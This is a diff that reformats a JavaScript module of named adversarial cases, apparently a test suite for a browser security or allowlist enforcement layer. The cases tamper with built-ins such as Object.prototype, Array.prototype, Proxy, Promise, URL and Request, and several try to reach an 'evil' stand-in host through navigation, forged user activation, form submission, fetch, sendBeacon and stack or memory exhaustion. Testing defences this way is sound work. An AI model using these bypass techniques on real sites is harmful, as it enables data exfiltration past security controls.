@@ -25,7 +25,14 @@ export default {
     send();
   },
   "Object.prototype's answers": ({ send }) => {
-    Object.assign(Object.prototype, { allowed: true, reason: "listed", matched: "'self'", installed: false, enforce: false, lockdown: false });
+    Object.assign(Object.prototype, {
+      allowed: true,
+      reason: "listed",
+      matched: "'self'",
+      installed: false,
+      enforce: false,
+      lockdown: false,
+    });
     send();
   },
   "Object.prototype's __proto__": ({ send }) => {
@@ -43,7 +50,9 @@ export default {
     send();
   },
   "Array.prototype's iterator": ({ own, send }) => {
-    Array.prototype[Symbol.iterator] = function* () { yield own; };
+    Array.prototype[Symbol.iterator] = function* () {
+      yield own;
+    };
     send();
   },
   "an array iterator's next": ({ own, send }) => {
@@ -51,15 +60,26 @@ export default {
     send();
   },
   "Array.prototype's indices": ({ own, send }) => {
-    for (const at of [0, 1, 2]) Object.defineProperty(Array.prototype, at, { get: () => own, set() {}, configurable: true });
+    for (const at of [0, 1, 2])
+      Object.defineProperty(Array.prototype, at, { get: () => own, set() {}, configurable: true });
     send();
   },
   "Array.prototype's prototype": ({ own, send }) => {
-    Object.setPrototypeOf(Array.prototype, new Proxy(Object.prototype, { get: (t, key) => (typeof key === "string" && key >= 0 ? own : t[key]), has: () => true }));
+    Object.setPrototypeOf(
+      Array.prototype,
+      new Proxy(Object.prototype, {
+        get: (t, key) => (typeof key === "string" && key >= 0 ? own : t[key]),
+        has: () => true,
+      }),
+    );
     send();
   },
   "Array's species": ({ own, send }) => {
-    Object.defineProperty(Array, Symbol.species, { value: function () { return [own]; } });
+    Object.defineProperty(Array, Symbol.species, {
+      value: function () {
+        return [own];
+      },
+    });
     Array.isArray = () => false;
     Array.from = () => [own];
     send();
@@ -74,7 +94,12 @@ export default {
     send();
   },
   "String itself": ({ own, send }) => {
-    globalThis.String = Object.assign(() => own, { prototype: String.prototype, raw: () => own, fromCharCode: () => "a", fromCodePoint: () => "a" });
+    globalThis.String = Object.assign(() => own, {
+      prototype: String.prototype,
+      raw: () => own,
+      fromCharCode: () => "a",
+      fromCodePoint: () => "a",
+    });
     send();
   },
   "RegExp.prototype": ({ send }) => {
@@ -90,33 +115,56 @@ export default {
     send();
   },
   "Function.prototype's prototype": ({ send }) => {
-    Object.setPrototypeOf(Function.prototype, new Proxy(Object.prototype, { get: (t, key) => t[key] ?? (() => true), has: () => true }));
+    Object.setPrototypeOf(
+      Function.prototype,
+      new Proxy(Object.prototype, { get: (t, key) => t[key] ?? (() => true), has: () => true }),
+    );
     send();
   },
-  "Reflect": ({ send }) => {
-    for (const name of ["apply", "construct", "get", "set", "has", "defineProperty", "getOwnPropertyDescriptor", "getPrototypeOf", "ownKeys"])
+  Reflect: ({ send }) => {
+    for (const name of [
+      "apply",
+      "construct",
+      "get",
+      "set",
+      "has",
+      "defineProperty",
+      "getOwnPropertyDescriptor",
+      "getPrototypeOf",
+      "ownKeys",
+    ])
       Reflect[name] = () => true;
     send();
   },
-  "Proxy": ({ send }) => {
-    globalThis.Proxy = function (target) { return target; };
+  Proxy: ({ send }) => {
+    globalThis.Proxy = function (target) {
+      return target;
+    };
     send();
   },
-  "Symbol": ({ send }) => {
+  Symbol: ({ send }) => {
     globalThis.Symbol = Object.assign(() => "x", { iterator: "x", toPrimitive: "y", hasInstance: "z" });
     send();
   },
   "Promise.prototype": ({ send }) => {
     for (const name of ["then", "catch", "finally"]) {
       const before = Promise.prototype[name];
-      Promise.prototype[name] = function (...all) { return before.call(this, ...all.map(() => () => {})); };
+      Promise.prototype[name] = function (...all) {
+        return before.call(this, ...all.map(() => () => {}));
+      };
     }
     send();
   },
-  "Promise": ({ send }) => {
+  Promise: ({ send }) => {
     Promise.reject = Promise.resolve = () => ({ catch() {} });
-    Object.defineProperty(Promise, Symbol.species, { get() { throw 1; } });
-    Promise.prototype.constructor = function () { throw 1; };
+    Object.defineProperty(Promise, Symbol.species, {
+      get() {
+        throw 1;
+      },
+    });
+    Promise.prototype.constructor = function () {
+      throw 1;
+    };
     send();
   },
   "Error.prepareStackTrace": ({ send }) => {
@@ -128,31 +176,56 @@ export default {
     };
     send();
     for (const one of seen) {
-      if (typeof one === "function" && /native/.test(`${one}`)) try { one("x"); } catch {}
+      if (typeof one === "function" && /native/.test(`${one}`))
+        try {
+          one("x");
+        } catch {}
     }
   },
   "Error's stack": ({ send }) => {
-    Object.defineProperty(Error, "stackTraceLimit", { get() { throw 1; }, set() {} });
-    Object.defineProperty(Error.prototype, "stack", { get: () => "", set() { throw 1; }, configurable: true });
+    Object.defineProperty(Error, "stackTraceLimit", {
+      get() {
+        throw 1;
+      },
+      set() {},
+    });
+    Object.defineProperty(Error.prototype, "stack", {
+      get: () => "",
+      set() {
+        throw 1;
+      },
+      configurable: true,
+    });
     send();
   },
   "TypeError and DOMException": ({ send }) => {
-    globalThis.TypeError = globalThis.DOMException = globalThis.Error = function () { throw 1; };
+    globalThis.TypeError =
+      globalThis.DOMException =
+      globalThis.Error =
+        function () {
+          throw 1;
+        };
     send();
   },
   "WeakMap, Map, Set and WeakRef": ({ send }) => {
     for (const type of [WeakMap, Map, Set, WeakSet])
-      for (const name of ["get", "set", "has", "add", "delete"]) if (type.prototype[name]) type.prototype[name] = () => undefined;
+      for (const name of ["get", "set", "has", "add", "delete"])
+        if (type.prototype[name]) type.prototype[name] = () => undefined;
     WeakRef.prototype.deref = () => undefined;
     send();
   },
-  "FinalizationRegistry": ({ send }) => {
-    FinalizationRegistry.prototype.register = (held) => { throw held; };
+  FinalizationRegistry: ({ send }) => {
+    FinalizationRegistry.prototype.register = (held) => {
+      throw held;
+    };
     FinalizationRegistry.prototype.unregister = () => true;
     send();
   },
   "WebAssembly's memory": ({ send }) => {
-    Object.defineProperty(WebAssembly.Memory.prototype, "buffer", { get: () => new ArrayBuffer(1 << 22), configurable: true });
+    Object.defineProperty(WebAssembly.Memory.prototype, "buffer", {
+      get: () => new ArrayBuffer(1 << 22),
+      configurable: true,
+    });
     WebAssembly.Memory.prototype.grow = () => 0;
     send();
   },
@@ -163,7 +236,9 @@ export default {
     send();
   },
   "WebAssembly's exports": ({ send }) => {
-    Object.defineProperty(WebAssembly.Instance.prototype, "exports", { get: () => new Proxy({}, { get: () => () => 1 }) });
+    Object.defineProperty(WebAssembly.Instance.prototype, "exports", {
+      get: () => new Proxy({}, { get: () => () => 1 }),
+    });
     globalThis.WebAssembly = {};
     send();
   },
@@ -171,28 +246,36 @@ export default {
     Object.setPrototypeOf(Function.prototype, { valueOf: () => 1, toString: () => "" });
     send();
   },
-  "TextDecoder": ({ own, send }) => {
+  TextDecoder: ({ own, send }) => {
     TextDecoder.prototype.decode = () => own;
-    globalThis.TextDecoder = class { decode() { return own; } };
+    globalThis.TextDecoder = class {
+      decode() {
+        return own;
+      }
+    };
     send();
   },
-  "TextEncoder": ({ own, send }) => {
+  TextEncoder: ({ own, send }) => {
     const { encodeInto } = TextEncoder.prototype;
-    TextEncoder.prototype.encodeInto = function (_, view) { return encodeInto.call(this, own, view); };
+    TextEncoder.prototype.encodeInto = function (_, view) {
+      return encodeInto.call(this, own, view);
+    };
     TextEncoder.prototype.encode = () => new Uint8Array();
     send();
   },
   "typed arrays": ({ send }) => {
     const typed = Object.getPrototypeOf(Uint8Array.prototype);
     for (const name of ["subarray", "set", "slice", "fill", "at"]) typed[name] = () => new Uint8Array(64);
-    for (const name of ["length", "byteLength", "byteOffset", "buffer"]) Object.defineProperty(typed, name, { get: () => 0 });
+    for (const name of ["length", "byteLength", "byteOffset", "buffer"])
+      Object.defineProperty(typed, name, { get: () => 0 });
     Object.defineProperty(typed, Symbol.toStringTag, { get: () => undefined });
     send();
   },
   "ArrayBuffer and DataView": ({ send }) => {
     Object.defineProperty(ArrayBuffer.prototype, "byteLength", { get: () => 0 });
     Object.defineProperty(ArrayBuffer.prototype, "detached", { get: () => true });
-    for (const name of ["getInt32", "setInt32", "getUint32", "setUint32", "setFloat64"]) DataView.prototype[name] = () => 0;
+    for (const name of ["getInt32", "setInt32", "getUint32", "setUint32", "setFloat64"])
+      DataView.prototype[name] = () => 0;
     send();
   },
   "structuredClone and JSON": ({ own, send }) => {
@@ -208,7 +291,9 @@ export default {
     send();
   },
   "Date that throws": ({ send }) => {
-    Date.now = () => { throw 1; };
+    Date.now = () => {
+      throw 1;
+    };
     send();
   },
   "URL.prototype": ({ own, send }) => {
@@ -220,14 +305,20 @@ export default {
   },
   "URL itself": ({ own, send }) => {
     const Before = URL;
-    globalThis.URL = function () { return new Before(own); };
+    globalThis.URL = function () {
+      return new Before(own);
+    };
     send();
   },
   "Request and Headers": ({ own, send }) => {
     Object.defineProperty(Request.prototype, "url", { get: () => own });
     const Before = Request;
-    globalThis.Request = function () { return new Before(own); };
-    globalThis.Headers = function () { throw 1; };
+    globalThis.Request = function () {
+      return new Before(own);
+    };
+    globalThis.Headers = function () {
+      throw 1;
+    };
     send();
   },
   "a document's addresses": ({ own, send }) => {
@@ -238,13 +329,23 @@ export default {
   },
   "a user's activation": ({ evil }) => {
     Object.defineProperty(UserActivation.prototype, "isActive", { get: () => true });
-    Object.defineProperty(Navigator.prototype, "userActivation", { get: () => ({ isActive: true, hasBeenActive: true }) });
-    Object.defineProperty(window, "navigator", { get: () => ({ userActivation: { isActive: true } }), configurable: true });
+    Object.defineProperty(Navigator.prototype, "userActivation", {
+      get: () => ({ isActive: true, hasBeenActive: true }),
+    });
+    Object.defineProperty(window, "navigator", {
+      get: () => ({ userActivation: { isActive: true } }),
+      configurable: true,
+    });
     open(evil);
     location = evil;
   },
-  "events": ({ add, evil }) => {
-    for (const [type, name] of [["Event", "type"], ["Event", "target"], ["NavigateEvent", "destination"], ["NavigateEvent", "userInitiated"]])
+  events: ({ add, evil }) => {
+    for (const [type, name] of [
+      ["Event", "type"],
+      ["Event", "target"],
+      ["NavigateEvent", "destination"],
+      ["NavigateEvent", "userInitiated"],
+    ])
       if (globalThis[type]) Object.defineProperty(globalThis[type].prototype, name, { get: () => true });
     Event.prototype.composedPath = () => [];
     Event.prototype.preventDefault = Event.prototype.stopImmediatePropagation = () => {};
@@ -252,8 +353,10 @@ export default {
     location = evil;
   },
   "nodes and attributes": ({ evil }) => {
-    for (const name of ["localName", "namespaceURI", "shadowRoot"]) Object.defineProperty(Element.prototype, name, { get: () => "b" });
-    for (const name of ["parentNode", "ownerDocument", "baseURI"]) Object.defineProperty(Node.prototype, name, { get: () => null });
+    for (const name of ["localName", "namespaceURI", "shadowRoot"])
+      Object.defineProperty(Element.prototype, name, { get: () => "b" });
+    for (const name of ["parentNode", "ownerDocument", "baseURI"])
+      Object.defineProperty(Node.prototype, name, { get: () => null });
     Element.prototype.getAttribute = Element.prototype.getAttributeNS = () => null;
     const a = document.createElement("a");
     a.href = evil;
@@ -272,7 +375,7 @@ export default {
     s.setAttributeNS(null, "content", `0; url=${evil}`);
     document.head.append(s);
   },
-  "listeners": ({ add, evil }) => {
+  listeners: ({ add, evil }) => {
     EventTarget.prototype.addEventListener = EventTarget.prototype.removeEventListener = () => {};
     add("form", { action: evil, target: "_blank" }).requestSubmit();
     add("a", { href: evil, target: "_blank" }).click();
@@ -287,16 +390,31 @@ export default {
   "an exhausted stack": ({ evil }) => {
     let left = 40;
     const deep = () => {
-      try { deep(); } catch {}
-      if (left > 0) try { fetch(evil, { mode: "no-cors" }).catch(() => {}); left--; } catch {}
-      if (left > 0) try { navigator.sendBeacon(evil, "x"); left--; } catch {}
+      try {
+        deep();
+      } catch {}
+      if (left > 0)
+        try {
+          fetch(evil, { mode: "no-cors" }).catch(() => {});
+          left--;
+        } catch {}
+      if (left > 0)
+        try {
+          navigator.sendBeacon(evil, "x");
+          left--;
+        } catch {}
     };
     deep();
   },
   "an exhausted memory": ({ evil }) => {
     const long = evil + "/" + "x".repeat(1 << 20);
-    for (let at = 0; at < 4; at++) try { navigator.sendBeacon(long + at, "x"); } catch {}
-    try { fetch(evil, { mode: "no-cors" }).catch(() => {}); } catch {}
+    for (let at = 0; at < 4; at++)
+      try {
+        navigator.sendBeacon(long + at, "x");
+      } catch {}
+    try {
+      fetch(evil, { mode: "no-cors" }).catch(() => {});
+    } catch {}
   },
   "a storm of violations": ({ send }) => {
     for (let at = 0; at < 3_000; at++) navigator.sendBeacon(`http://127.0.0.1:1/${at}`, "x");
